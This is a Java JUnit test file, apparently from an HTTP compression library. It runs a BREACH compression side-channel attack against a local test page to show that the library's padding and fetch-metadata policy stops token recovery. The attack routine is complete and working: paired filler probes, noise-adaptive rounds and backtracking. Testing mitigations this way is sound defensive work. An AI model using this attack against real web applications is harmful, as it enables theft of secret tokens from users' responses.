package dev.restcompress.breach;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.restcompress.config.AdaptiveSettings;
import dev.restcompress.config.BreachSettings;
import dev.restcompress.testing.TestServerExtension;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * BREACH run as an attacker would, over real HTTP (RESTEasy on Undertow, 127.0.0.1), against
 * {@link SecretPageResource}: the token is guessed one hex digit at a time from compressed lengths.
 *
 * <p>The attacker is a serious one. Per candidate digit, two requests: known prefix + digit + filler,
 * and known prefix + filler + digit, where the filler is 4 to 12 characters that never occur in the
 * page (then 4 more that end both tries alike), drawn fresh every round and shared by the round's
 * candidates. A wrong digit costs the same in both tries, the right one does not; the score of a digit
 * is how much its two lengths differ, summed over {@value #MIN_ROUNDS} to {@value #MAX_ROUNDS} rounds
 * (more while no digit stands out by four standard errors of the noise seen); the best wins, ties broken
 * at random, and a digit where nothing stands out at all sends the attacker one digit back. At most
 * {@value #BUDGET} requests per attack, seven attacks per run of this class.
 *
 * <p>Asserted: with {@code rest-compress.breach.protect=off} the whole token is recovered, for gzip,
 * br and zstd; with the default policy, cross-site requests (answered unencoded, so asked for gzip only)
 * and requests without fetch metadata (padded by 0 to 256 random bytes; all three codings) recover at
 * most {@value #CHANCE_BOUND} of 24 digits. Chance is one digit in 16: the number of right digits is then
 * Binomial(24, 1/16), mean 1.5, and P(at least 8) is about 5e-5, so the bound fails a broken policy, not
 * an unlucky one.
 */
@Timeout(value = 240, unit = TimeUnit.SECONDS)
class BreachAttackTest {
    static final int MIN_ROUNDS = 2;
    static final int MAX_ROUNDS = 16;
    static final int MARGIN = 2;
    static final int BACKTRACKS = 6;
    static final java.util.concurrent.atomic.AtomicLong TOTAL_REQUESTS = new java.util.concurrent.atomic.AtomicLong();
    static final java.util.concurrent.atomic.AtomicLong LAST_REQUESTS = new java.util.concurrent.atomic.AtomicLong();
    static final int BUDGET = 8_000;
    static final int CHANCE_BOUND = 7;
    static final String HEX = "0123456789abcdef";
    /** Characters absent from the page and safe in a query string once encoded. */
    static final String FILLER = "!$()*,;@[]^_`{|}~";
    static final int IN_FLIGHT = 16;

    // Adaptive levels off on both: on a saturated machine the ladder would step the level down mid-test,
    // which changes every body's length by more than the padding or the attack's signal.
    @RegisterExtension
    static final TestServerExtension OFF = TestServerExtension.of(Set.of(SecretPageResource.class),
            Map.of(BreachSettings.PROTECT, "off", AdaptiveSettings.ADAPTIVE, "off"));
    @RegisterExtension
    static final TestServerExtension ON = TestServerExtension.of(Set.of(SecretPageResource.class),
            Map.of(AdaptiveSettings.ADAPTIVE, "off"));

    static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();

    @ParameterizedTest
    @ValueSource(strings = {"gzip", "br", "zstd"})
    void withThePolicyOffTheTokenIsRecovered(String coding) throws Exception {
        long before = TOTAL_REQUESTS.get();
        String guessed = attack(OFF.uri("breach/marked"), coding, null);
        System.out.println("BREACH " + coding + " policy off: " + guessed + " in " + (TOTAL_REQUESTS.get() - before)
                + " requests");
        assertEquals(SecretPageResource.TOKEN, guessed, coding + ": the attack itself must work");
    }

    /** One coding is enough: a cross-site request is answered unencoded whichever coding it asks for. */
    @Test
    void crossSiteRequestsRecoverOnlyChance() throws Exception {
        String guessed = attack(ON.uri("breach/marked"), "gzip", "cross-site");
        assertAtChance("gzip cross-site", guessed);
    }

    @ParameterizedTest
    @ValueSource(strings = {"gzip", "br", "zstd"})
    void requestsWithoutFetchMetadataRecoverOnlyChance(String coding) throws Exception {
        String guessed = attack(ON.uri("breach/marked"), coding, null);
        assertAtChance(coding + " without fetch metadata", guessed);
    }

    /** The same page is still compressed for its own site: the policy does not just turn compression off. */
    @Test
    void sameOriginRequestsAreStillCompressed() throws Exception {
        HttpResponse<byte[]> r = get(ON.uri("breach/marked"), "q=x", "gzip", "same-origin").join();
        assertEquals("gzip", r.headers().firstValue("Content-Encoding").orElse(null));
        assertTrue(r.headers().allValues("Vary").toString().contains("Sec-Fetch-Site"), r.headers().map().toString());
    }

    /**
     * What padding costs on the attack page: 200 responses without fetch metadata against the same
     * request from the same origin. Expected mean: the framing (gzip 6, zstd 8, br about 2.5 bytes) plus 128, the
     * mean of 0..256; its standard error over 200 responses is about 5 bytes. The lengths must also be
     * fresh: 200 draws from 257 lengths give about 139 distinct ones.
     */
    @ParameterizedTest
    @ValueSource(strings = {"gzip", "zstd", "br"})
    void paddingCostsItsMeanPerResponseAndVaries(String coding) throws Exception {
        URI page = ON.uri("breach/marked");
        HttpResponse<byte[]> plain = get(page, "q=x", coding, "same-origin").join();
        assertEquals(coding, plain.headers().firstValue("Content-Encoding").orElse(null));
        Set<Integer> lengths = new java.util.HashSet<>();
        long extra = 0;
        for (int i = 0; i < 200; i++) {
            HttpResponse<byte[]> r = get(page, "q=x", coding, null).join();
            assertEquals(coding, r.headers().firstValue("Content-Encoding").orElse(null));
            lengths.add(length(r));
            extra += length(r) - length(plain);
        }
        double mean = extra / 200.0;
        // br: the header flush (1 byte) and the metadata block's header (1 or 2 bytes up to 256).
        double expected = (coding.equals("gzip") ? 6 : coding.equals("zstd") ? 8 : 2.5) + 128;
        System.out.printf("BREACH padding %s: page %d B compressed, %.1f B more per response (%.0f%%), %d distinct"
                + " lengths in 200%n", coding, length(plain), mean, 100 * mean / length(plain), lengths.size());
        assertTrue(Math.abs(mean - expected) < 25, coding + ": mean padding " + mean + ", expected about " + expected);
        assertTrue(lengths.size() >= 100, coding + ": only " + lengths.size() + " distinct lengths in 200 responses");
    }

    static void assertAtChance(String what, String guessed) {
        int right = 0;
        for (int i = 0; i < guessed.length(); i++) {
            right += guessed.charAt(i) == SecretPageResource.TOKEN.charAt(i) ? 1 : 0;
        }
        System.out.println("BREACH " + what + ": " + right + "/24 digits right (" + guessed + ") in "
                + LAST_REQUESTS.get() + " requests");
        assertTrue(right <= CHANCE_BOUND, what + ": " + right + " of 24 digits recovered (" + guessed + ")");
    }

    /**
     * Guesses the token digit by digit; returns the 24 digits it settled on. Per digit at least
     * {@value #MIN_ROUNDS} rounds, more (up to {@value #MAX_ROUNDS}) while no digit leads the others by
     * {@value #MARGIN} bytes; a digit where no candidate compresses better at all means the previous
     * one was wrong, so it is dropped (at most {@value #BACKTRACKS} times). At most {@value #BUDGET}
     * requests and 60 s per attack.
     */
    static String attack(URI page, String coding, String secFetchSite) throws Exception {
        Random random = new Random();
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
        StringBuilder known = new StringBuilder();
        int requests = 0;
        int backtracks = 0;
        while (known.length() < 24 && requests + 32 <= BUDGET) {
            long[] score = new long[16];
            double[] spread = new double[2]; // sum and sum of squares of every per-round difference
            int round = 0;
            while (round < MAX_ROUNDS && requests + 32 <= BUDGET
                    && (round < MIN_ROUNDS || !decided(score, round, spread))) {
                assertTrue(System.nanoTime() < deadline, "attack over its time bound at digit " + known.length());
                List<CompletableFuture<HttpResponse<byte[]>>> sent = new ArrayList<>();
                // One filler per round, shared by the round's candidates, so that they differ only in
                // their digit; a random length moves the byte boundary the digit's bits fall against.
                String filler = filler(random, 4 + random.nextInt(9));
                String tail = filler(random, 4); // the same end for both tries: no match against what follows
                for (int c = 0; c < 16; c++) {
                    String prefix = SecretPageResource.KNOWN + known;
                    sent.add(get(page, "q=" + enc(prefix + HEX.charAt(c) + filler + tail), coding, secFetchSite));
                    sent.add(get(page, "q=" + enc(prefix + filler + HEX.charAt(c) + tail), coding, secFetchSite));
                    if (sent.size() % IN_FLIGHT == 0) {
                        CompletableFuture.allOf(sent.subList(sent.size() - IN_FLIGHT, sent.size())
                                .toArray(CompletableFuture[]::new)).join();
                    }
                }
                for (int c = 0; c < 16; c++) {
                    // A wrong digit costs the same in both tries; the right one does not. Which try is
                    // shorter depends on the coding (zstd's sequence codes can make the longer match cost
                    // more), so the attacker counts the difference, not its sign.
                    int d = Math.abs(length(sent.get(2 * c + 1).join()) - length(sent.get(2 * c).join()));
                    score[c] += d;
                    spread[0] += d;
                    spread[1] += (double) d * d;
                }
                requests += 32;
                round++;
            }
            int best = best(score, random);
            if (score[best] == 0 && known.length() > 0 && backtracks < BACKTRACKS) {
                known.setLength(known.length() - 1);
                backtracks++;
            } else {
                known.append(HEX.charAt(best));
            }
        }
        while (known.length() < 24) {
            known.append(HEX.charAt(random.nextInt(16))); // out of budget: a guess
        }
        TOTAL_REQUESTS.addAndGet(requests);
        LAST_REQUESTS.set(requests);
        return known.toString();
    }

    /**
     * Whether one digit leads every other by the margin, or (after a few rounds) is the only one that
     * showed any difference at all. The margin grows with the noise: four standard errors of a sum of
     * {@code rounds} differences (as spread as all differences seen for this digit), so that random
     * lengths do not end the rounds early by luck.
     */
    static boolean decided(long[] score, int rounds, double[] spread) {
        double n = 16.0 * rounds;
        double mean = spread[0] / n;
        double sigma = Math.sqrt(Math.max(0, spread[1] / n - mean * mean));
        double margin = Math.max(MARGIN, 4 * sigma * Math.sqrt(rounds));
        long first = Long.MIN_VALUE;
        long second = Long.MIN_VALUE;
        for (long v : score) {
            if (v > first) {
                second = first;
                first = v;
            } else if (v > second) {
                second = v;
            }
        }
        return first - second >= margin || rounds >= 4 && first > 0 && second == 0;
    }

    static int best(long[] score, Random random) {
        List<Integer> top = new ArrayList<>();
        long max = Long.MIN_VALUE;
        for (int c = 0; c < score.length; c++) {
            if (score[c] > max) {
                max = score[c];
                top.clear();
            }
            if (score[c] == max) {
                top.add(c);
            }
        }
        return top.get(random.nextInt(top.size()));
    }

    static String filler(Random random, int length) {
        StringBuilder f = new StringBuilder();
        for (int i = 0; i < length; i++) {
            f.append(FILLER.charAt(random.nextInt(FILLER.length())));
        }
        return f.toString();
    }

    static int length(HttpResponse<byte[]> r) {
        assertEquals(200, r.statusCode());
        return r.body().length;
    }

    static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    static CompletableFuture<HttpResponse<byte[]>> get(URI page, String query, String coding, String secFetchSite) {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(page + "?" + query)).timeout(Duration.ofSeconds(30))
                .header("Accept-Encoding", coding);
        if (secFetchSite != null) {
            b.header("Sec-Fetch-Site", secFetchSite);
        }
        return HTTP.sendAsync(b.GET().build(), HttpResponse.BodyHandlers.ofByteArray());
    }
}
